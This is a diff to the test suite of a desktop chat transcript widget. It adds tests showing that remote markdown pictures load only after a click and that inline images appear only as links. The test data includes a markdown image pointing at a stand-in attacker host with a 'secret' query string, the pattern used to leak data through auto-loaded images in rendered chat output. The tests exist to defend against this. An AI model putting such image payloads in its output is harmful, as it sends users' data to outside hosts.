@@ -13,6 +13,7 @@ from PySide6.QtWidgets import QAbstractButton, QPlainTextEdit
 
 from app.conversation_model import ConversationModel, MessageItem
 from app.widgets.markdown.code_layout import CodeLayout
+from app.widgets.markdown.pictures import PictureState
 from app.widgets.transcript import Transcript
 from app.widgets.transcript.card import Card
 from engine.metrics import RequestMetrics
@@ -141,12 +142,34 @@ def test_a_link_tells_its_target_and_opens_nothing_itself(show: Callable[..., Ca
     assert asked == [("https://evil.example/login", "paypal.com")]
 
 
-def test_a_remote_image_is_only_a_link(show: Callable[..., Card], transcript: Transcript) -> None:
+def test_a_remote_picture_is_fetched_only_after_a_click(
+    show: Callable[..., Card], transcript: Transcript, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fetched: list[str] = []
+    monkeypatch.setattr(transcript.pictures, "_fetch", fetched.append)
     card = show("![chart](https://evil.example/?q=secret)")
+    assert fetched == []
+    assert transcript.pictures.state("https://evil.example/?q=secret") is PictureState.OFFERED
+    click(card, point_of(card, 0, 0))
+    assert fetched == ["https://evil.example/?q=secret"]
+    assert transcript.pictures.state("https://evil.example/?q=secret") is PictureState.LOADING
+
+
+def test_an_image_amid_text_is_only_a_link(show: Callable[..., Card], transcript: Transcript) -> None:
+    card = show("see ![chart](https://evil.example/a.png)")
     asked: list[str] = []
     transcript.link_requested.connect(lambda url, _text: asked.append(url))
-    click(card, point_of(card, 0, 2))
-    assert asked == ["https://evil.example/?q=secret"]
+    click(card, point_of(card, 0, 6))
+    assert asked == ["https://evil.example/a.png"]
+
+
+def test_formulas_are_drawn_or_shown_as_they_are_written(show: Callable[..., Card], transcript: Transcript) -> None:
+    card = show("so $x^2$ is")
+    transcript.set_math_on(False)
+    assert card.sections.body.document.layout_at((0, 0, 0)).shown() == "so $x^2$ is"
+    transcript.set_math_on(True)
+    transcript.finish_drawing()
+    assert card.sections.body.document.layout_at((0, 0, 0)).shown() == "so x is"
 
 
 def test_what_the_user_typed_is_literal(show: Callable[..., Card]) -> None:
